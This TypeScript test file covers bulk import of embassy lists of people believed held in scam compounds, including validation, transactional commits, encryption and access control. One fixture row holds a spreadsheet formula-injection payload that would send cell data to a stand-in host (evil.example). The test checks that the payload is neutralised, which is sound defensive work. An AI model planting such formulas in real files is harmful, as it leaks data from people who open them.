import { InsertQueryNode, type KyselyPlugin } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EmbassyListImportJob, ReportDetail } from '@ctip/contracts';
import { systemAuditContext } from '../../audit/audit-events';
import type { HttpAgent } from '../../testing/http-agent';
import { createTestContext, type TestContext } from '../../testing/test-context';
import { dialectsUnderTest } from '../../testing/test-database';
import { uploadOf } from '../case-exchange/case-exchange.access';
import { buildXlsx } from '../case-exchange/testing/build-xlsx';
import { importJobRunnerOf } from '../case-exchange/use-cases/import-job-runner';
import { IntakeFixtures } from './intake-fixtures';
import { checkEmbassyListRequest, commitEmbassyList, embassyListImportKind } from './use-cases/import-embassy-list';

/** An embassy's list as embassies send them: a title row, its own language's headers beside English, names in several scripts. */
const LIST = [
  'Nationals believed held in Cambodia (Embassy list 2026-11),,,,,,,,,,',
  'Nama,Name in passport,Sex,Date of birth,Nationality,Passport No.,Phone,Telegram,Last known location,Company,Notes',
  'Siti Rahayu,SITI RAHAYU,F,14/03/1999,Indonesian,C1234567,+62 812 3456 7890,@siti_r,"Sihanoukville, road to Otres",Golden Fortune,Phone taken on arrival',
  'Budi Santoso,,M,1995,Indonesia,B7654321,0812-1111-2222; 0813 3333 4444,,Bavet,Compound 7,',
  '陈伟,Chen Wei,M,1990-07-21,China,E12345678,,,Poipet,,',
  'ជា សុខា,Chea Sokha,ស្រី,,Khmer,,012 345 678,,,,',
  '',
].join('\n');

/** What the embassy says as a whole, given once with the commit. */
const REQUEST = { reporterName: 'Embassy of the Republic of Indonesia', reporterContact: { kind: 'phone', value: '+855 23 217 934' }, urgency: 'immediate_danger', narrative: 'Families report these nationals held and made to run scams.' };

const TERMINAL = new Set(['validated', 'committed', 'failed', 'cancelled', 'expired']);

describe.each(dialectsUnderTest())('bulk intake of embassy lists on %s', (dialect) => {
  let context: TestContext;
  let fixtures: IntakeFixtures;
  let hotline: string;
  let operator: HttpAgent;
  let operatorId: string;
  let colleague: HttpAgent;
  let outsider: HttpAgent;
  let caseWorker: HttpAgent;
  let siteId: string;

  type Table = 'reports' | 'report_people' | 'report_person_tokens' | 'report_identifiers' | 'case_import_files';
  const count = async (table: Table) => Number((await context.services.db.selectFrom(table).select((select) => select.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n);
  const counts = async () => ({ reports: await count('reports'), people: await count('report_people'), tokens: await count('report_person_tokens'), identifiers: await count('report_identifiers') });
  const upload = async (agent: HttpAgent, content: string | Buffer, fileName = 'list.csv') => agent.post('/api/intake-imports', uploadOf(content, fileName));
  /** Polls the job as the web app does, until its running phase ends. */
  const settle = async (agent: HttpAgent, id: string): Promise<EmbassyListImportJob> => {
    await importJobRunnerOf(context.services).idle();
    const response = await agent.get(`/api/intake-imports/${id}`);
    expect(response.statusCode, response.body).toBe(200);
    const job = response.json() as EmbassyListImportJob;
    expect(TERMINAL.has(job.status), job.status).toBe(true);
    return job;
  };
  const dryRun = async (agent: HttpAgent, job: EmbassyListImportJob, mapping = job.mapping!) => {
    const response = await agent.post(`/api/intake-imports/${job.id}/dry-run`, mapping);
    expect(response.statusCode, response.body).toBe(202);
    return settle(agent, job.id);
  };
  const uploaded = async (content: string | Buffer, fileName?: string) => {
    const response = await upload(operator, content, fileName);
    expect(response.statusCode, response.body).toBe(201);
    return response.json() as EmbassyListImportJob;
  };

  beforeAll(async () => {
    context = await createTestContext(dialect);
    fixtures = new IntakeFixtures(context);
    hotline = await context.createOrganisation({ nameEn: 'National hotline', kind: 'ngo' });
    const other = await context.createOrganisation({ nameEn: 'Another hotline', kind: 'ngo' });
    const operatorUser = await context.createUser(hotline, ['hotline_operator']);
    operatorId = operatorUser.id;
    operator = await context.signIn(operatorUser.email);
    colleague = await context.signIn((await context.createUser(hotline, ['investigator'])).email);
    outsider = await context.signIn((await context.createUser(other, ['hotline_operator'])).email);
    caseWorker = await context.signIn((await context.createUser(hotline, ['case_worker'])).email);
    siteId = await fixtures.site(hotline);
  });
  afterAll(async () => context?.close());

  it('proposes a mapping in the embassy’s words, dry-runs, and commits the list as ONE report with a person per row', async () => {
    const job = await uploaded(LIST);
    expect(job).toMatchObject({ kind: 'embassy_list', status: 'mapping', format: 'csv', headerRow: 2, rowsTotal: 4 });
    expect(job.columns.map((column) => column.proposedField)).toEqual(['full_name', 'latin_name', 'sex', 'birth_date', 'nationality', 'passport', 'phone', 'telegram', 'last_known_location', 'site_name', 'notes']);

    const before = await counts();
    const validated = await dryRun(operator, job);
    expect(validated.report).toMatchObject({ rowsValid: 4, errorCount: 0, warningCount: 0 });
    expect(await counts()).toEqual(before);

    const committing = await operator.post(`/api/intake-imports/${job.id}/commit`, { ...REQUEST, siteId });
    expect(committing.statusCode, committing.body).toBe(202);
    const committed = await settle(operator, job.id);
    expect(committed).toMatchObject({ status: 'committed', rowsDone: 4, fileDeleted: true, result: { people: 4 } });
    expect(await counts()).toMatchObject({ reports: before.reports + 1, people: before.people + 4 });
    expect(await count('case_import_files')).toBe(0);

    const report = (await operator.get(`/api/reports/${committed.result!.reportId}`)).json() as ReportDetail;
    expect(report).toMatchObject({
      reference: committed.result!.reference,
      channel: 'embassy_request',
      urgency: 'immediate_danger',
      status: 'new',
      peopleCount: 4,
      site: { id: siteId },
      provinceCode: 'KH-18',
      nationalities: ['ID', 'CN', 'KH'],
      reporter: { anonymous: false, name: REQUEST.reporterName, contact: REQUEST.reporterContact, relationship: 'embassy' },
      allegation: { narrative: REQUEST.narrative },
      ownerOrganisation: { id: hotline },
      recordedBy: { id: operatorId },
    });
    expect(report.people.map((person) => [person.names.map((name) => `${name.script}:${name.full}`), person.sex, person.age, person.nationality, person.contacts.map((contact) => `${contact.kind}:${contact.value}`)])).toEqual([
      [['latin:Siti Rahayu', 'latin:SITI RAHAYU'], 'female', 27, 'ID', ['phone:+62 812 3456 7890', 'telegram:@siti_r']],
      [['latin:Budi Santoso'], 'male', 31, 'ID', ['phone:0812-1111-2222', 'phone:0813 3333 4444']],
      [['han:陈伟', 'latin:Chen Wei'], 'male', 36, 'CN', []],
      [['khmer:ជា សុខា', 'latin:Chea Sokha'], 'female', null, 'KH', ['phone:012 345 678']],
    ]);
    expect(report.people.map((person) => person.details)).toEqual([
      { birthDate: '1999-03-14', passport: 'C1234567', lastKnownLocation: 'Sihanoukville, road to Otres', siteName: 'Golden Fortune', notes: 'Phone taken on arrival' },
      { birthDate: '1995', passport: 'B7654321', lastKnownLocation: 'Bavet', siteName: 'Compound 7', notes: null },
      { birthDate: '1990-07-21', passport: 'E12345678', lastKnownLocation: 'Poipet', siteName: null, notes: null },
      null,
    ]);

    // Names, contacts and passports are encrypted at rest, and found by search in any script.
    const stored = await context.services.db.selectFrom('report_people').select(['names', 'contacts', 'details']).where('report_id', '=', report.id).execute();
    expect(JSON.stringify(stored)).not.toMatch(/Rahayu|B7654321|Otres|siti_r/);
    for (const search of ['Budi Santoso', 'សុខា', 'Chen Wei', 'B7654321', '0812 1111 2222']) {
      const found = (await operator.get(`/api/reports?search=${encodeURIComponent(search)}`)).json();
      expect(found.items.map((item: { id: string }) => item.id), search).toEqual([report.id]);
    }

    // The audit trail has counts and codes, never a cell.
    const events = await context.services.db.selectFrom('audit_events').select(['action', 'details', 'resource_id']).where((where) => where.or([where('action', 'like', 'intake_import.%'), where('resource_id', '=', report.id)])).orderBy('seq').execute();
    expect(events.map((event) => [event.action, JSON.parse(event.details)])).toEqual([
      ['intake_import.started', { format: 'csv', rows: 4, sizeBytes: Buffer.byteLength(LIST) }],
      ['intake_import.validated', { rows: 4, errors: 0, warnings: 0 }],
      ['report.created', { channel: 'embassy_request', urgency: 'immediate_danger', people: 4 }],
      ['intake_import.committed', { reportId: report.id, people: 4 }],
      ['record.read', {}],
    ]);
    // Phone numbers are looked for whole, in any spacing: a four-digit fragment once matched the
    // hex digits of a hash or an id by chance.
    const trail = JSON.stringify(await context.services.db.selectFrom('audit_events').selectAll().execute());
    expect(trail).not.toMatch(/Rahayu|Santoso|陈伟|សុខា|C1234567|B7654321|Golden Fortune|Otres|Indonesia|0812\D?1111\D?2222|0813\D?3333\D?4444/);
  });

  it('reads XLSX lists: real dates, passports and phones typed as numbers, and refuses wrong types by row and column', async () => {
    const workbook = buildXlsx([
      ['Name', 'Gender', 'DOB', 'Age', 'Passport', 'WhatsApp', 'Facebook', 'Location'],
      ['Nguyễn Văn Nam', 'M', new Date(Date.UTC(2001, 0, 9)), null, 12_345_678, 84_912_345_678, 'facebook.com/nam.nguyen', 'Kampot'],
      ['Somchai Dee', 'ชาย', null, 33, 'AA1234567', null, null, null],
      [42, 'F', 'last year', null, null, null, null, true],
    ]);
    const job = await uploaded(workbook, 'list.xlsx');
    expect(job.format).toBe('xlsx');
    expect(job.columns.map((column) => column.proposedField)).toEqual(['full_name', 'sex', 'birth_date', 'age', 'passport', 'whatsapp', 'facebook', 'last_known_location']);
    const validated = await dryRun(operator, job);
    expect(validated.report!.problems.map((problem) => [problem.row, problem.column, problem.header, problem.field, problem.code])).toEqual([
      [4, 'A', 'Name', 'full_name', 'wrong_type'],
      [4, 'C', 'DOB', 'birth_date', 'not_a_date'],
      [4, 'H', 'Location', 'last_known_location', 'wrong_type'],
    ]);
    expect(validated.report).toMatchObject({ rowsValid: 2, errorCount: 3 });
    expect((await operator.delete(`/api/intake-imports/${job.id}`)).statusCode).toBe(200);
  });

  it('reports every problem of a dry run by row and column, writes nothing, and commits nothing while any row has an error', async () => {
    const sheet = [
      'Full name,Sex,Date of birth,Age,Nationality,Passport,Phone,Phone 2,Notes',
      'Dewi Lestari,X-ray,1990,,Indonesian,A1111111,,,',
      'Agus Salim,M,31/02/1999,,Atlantis,A2222222,,,',
      ',F,,30,Indonesian,,,,no name here',
      'Rina Wati,F,2030,,Indonesian,A1111111,,,',
      'Joko Widodo,M,,130,Indonesian,,1;2;3;4,5;6;7,',
      '=HYPERLINK("http://evil.example/?"&A2;"click"),F,,,Indonesian,,,,',
    ].join('\n');
    const job = await uploaded(sheet);
    expect(job.columns.map((column) => column.proposedField)).toEqual(['full_name', 'sex', 'birth_date', 'age', 'nationality', 'passport', 'phone', 'phone', 'notes']);
    const before = await counts();
    context.writes.reset();
    const validated = await dryRun(operator, job);
    // A dry run writes its job and the audit trail, nothing else.
    expect(context.writes.tablesWritten()).toEqual(['audit_anchor', 'audit_events', 'case_import_jobs']);
    expect(validated.report!.problems.map((problem) => [problem.row, problem.column, problem.code, problem.severity])).toEqual([
      [2, 'B', 'unknown_sex', 'error'],
      [3, 'C', 'not_a_real_date', 'error'],
      [3, 'E', 'unknown_country', 'error'],
      [4, null, 'name_required', 'error'],
      [5, 'C', 'future_date', 'error'],
      [5, 'F', 'duplicate_in_sheet', 'warning'],
      [6, null, 'too_many_contacts', 'error'],
      [6, 'D', 'not_an_age', 'error'],
      [7, 'A', 'formula_kept_as_text', 'warning'],
    ]);
    expect(validated.report).toMatchObject({ rowsValid: 1, errorCount: 7, warningCount: 2 });
    expect(JSON.stringify(validated.report)).not.toMatch(/Atlantis|X-ray|evil\.example|A1111111/);
    const refused = await operator.post(`/api/intake-imports/${job.id}/commit`, REQUEST);
    expect(refused.statusCode).toBe(409);
    expect(await counts()).toEqual(before);
    // A mapping without any name column is refused before a row is read.
    const nameless = await operator.post(`/api/intake-imports/${job.id}/dry-run`, { ...job.mapping!, columns: job.mapping!.columns.map((column) => (column.field === 'full_name' ? { ...column, field: null } : column)) });
    expect(nameless.statusCode).toBe(400);
    expect(nameless.json().errors.map((error: { code: string }) => error.code)).toEqual(['name_required']);
    // A field of case registers is no field of an embassy list.
    const caseField = await operator.post(`/api/intake-imports/${job.id}/dry-run`, { ...job.mapping!, columns: [{ index: 0, field: 'identified_on' }] });
    expect(caseField.statusCode).toBe(400);
    expect((await operator.delete(`/api/intake-imports/${job.id}`)).statusCode).toBe(200);
  });

  it('checks what the list says as a whole before the commit starts (400 by field), and keeps the job ready', async () => {
    const job = await uploaded('Name,Passport\nAni Yudhoyono,X9999999\n');
    await dryRun(operator, job);
    const missing = await operator.post(`/api/intake-imports/${job.id}/commit`, { urgency: 'high' });
    expect(missing.statusCode).toBe(400);
    expect(missing.json().errors.map((error: { path: string }) => error.path)).toEqual(['reporterName']);
    const unknownSite = await operator.post(`/api/intake-imports/${job.id}/commit`, { ...REQUEST, siteId: 'no-such-site' });
    expect(unknownSite.statusCode).toBe(400);
    expect(unknownSite.json().errors).toMatchObject([{ path: 'siteId', code: 'unknown_site' }]);
    expect((await operator.get(`/api/intake-imports/${job.id}`)).json()).toMatchObject({ status: 'validated', fileDeleted: false });
    expect((await operator.delete(`/api/intake-imports/${job.id}`)).statusCode).toBe(200);
  });

  it('is all or nothing: when a part of the people cannot be written, no report and no person of the list remain', async () => {
    // 1,200 people: the report is written in parts of 500; the database refuses the second part.
    const rows = Array.from({ length: 1_200 }, (_, index) => `Orang Nomor${index},F,P${String(index).padStart(7, '0')}`);
    const job = await uploaded(`Name,Sex,Passport\n${rows.join('\n')}`);
    expect((await dryRun(operator, job)).report).toMatchObject({ errorCount: 0, rowsValid: 1_200 });
    const before = { ...(await counts()), audit: (await context.services.db.selectFrom('audit_events').select('seq').execute()).length };
    await context.services.db.updateTable('case_import_jobs').set({ status: 'committing' }).where('id', '=', job.id).execute();
    const runner = importJobRunnerOf(context.services);
    const validation = await embassyListImportKind.validateRows(context.services, await runner.sheetOf(job.id), job.mapping!, { onProgress: () => {}, isCancelled: () => false });
    let peopleInserts = 0;
    const faulty: KyselyPlugin = {
      transformQuery: (args) => {
        if (InsertQueryNode.is(args.node) && args.node.into?.table.identifier.name === 'report_people' && ++peopleInserts === 2) throw new Error('disk full');
        return args.node;
      },
      transformResult: async (args) => args.result,
    };
    const failing = { ...context.services, db: context.services.db.withPlugin(faulty) };
    const actor = { userId: operatorId, organisationId: hotline, roles: ['hotline_operator' as const], isPlatformOperator: false };
    const report = await checkEmbassyListRequest(context.services, { ...REQUEST, reporterContact: null, urgency: 'high', siteId: null });
    const progress: number[] = [];
    await expect(commitEmbassyList(failing, actor, job.id, validation.mapped, report, systemAuditContext('test'), { onProgress: (done) => progress.push(done), isCancelled: () => false })).rejects.toThrow('disk full');
    expect(peopleInserts).toBe(2);
    expect(progress).toEqual([500]);
    expect({ ...(await counts()), audit: (await context.services.db.selectFrom('audit_events').select('seq').execute()).length }).toEqual(before);
    expect((await context.services.db.selectFrom('case_import_jobs').select('status').where('id', '=', job.id).executeTakeFirstOrThrow()).status).toBe('committing');

    // A cancellation between parts rolls back the same way.
    let calls = 0;
    await expect(commitEmbassyList(context.services, actor, job.id, validation.mapped, report, systemAuditContext('test'), { onProgress: () => {}, isCancelled: () => ++calls >= 2 })).rejects.toMatchObject({ name: 'ImportCancelled' });
    expect(await counts()).toMatchObject({ reports: before.reports, people: before.people, tokens: before.tokens, identifiers: before.identifiers });
    expect((await operator.delete(`/api/intake-imports/${job.id}`)).statusCode).toBe(200);
  });

  it('shows a job to its organisation’s report writers only, and the report to its organisation only', async () => {
    const job = await uploaded('Name,Nationality\nPutri Ayu,Indonesia\n');
    expect((await colleague.get(`/api/intake-imports/${job.id}`)).statusCode).toBe(200);
    for (const response of [
      await outsider.get(`/api/intake-imports/${job.id}`),
      await outsider.post(`/api/intake-imports/${job.id}/dry-run`, job.mapping),
      await outsider.post(`/api/intake-imports/${job.id}/commit`, REQUEST),
      await outsider.delete(`/api/intake-imports/${job.id}`),
    ]) expect(response.statusCode).toBe(404);
    expect((await caseWorker.get(`/api/intake-imports/${job.id}`)).statusCode).toBe(403);
    expect((await caseWorker.post('/api/intake-imports', uploadOf('Name\nA'))).statusCode).toBe(403);
    expect((await context.agent().get(`/api/intake-imports/${job.id}`)).statusCode).toBe(401);
    // A job is reached through its own kind's routes only.
    const caseImporter = await context.signIn((await context.createUser(hotline, ['case_worker', 'hotline_operator'])).email);
    expect((await caseImporter.get(`/api/case-imports/${job.id}`)).statusCode).toBe(404);
    expect((await caseImporter.get(`/api/intake-imports/${job.id}`)).statusCode).toBe(200);

    await dryRun(operator, job);
    await operator.post(`/api/intake-imports/${job.id}/commit`, REQUEST);
    const committed = await settle(operator, job.id);
    expect(committed.status).toBe('committed');
    expect((await colleague.get(`/api/reports/${committed.result!.reportId}`)).statusCode).toBe(200);
    expect((await outsider.get(`/api/reports/${committed.result!.reportId}`)).statusCode).toBe(404);
    const searched = (await outsider.get(`/api/reports?search=${encodeURIComponent('Putri Ayu')}`)).json();
    expect(searched.total).toBe(0);
  });
});
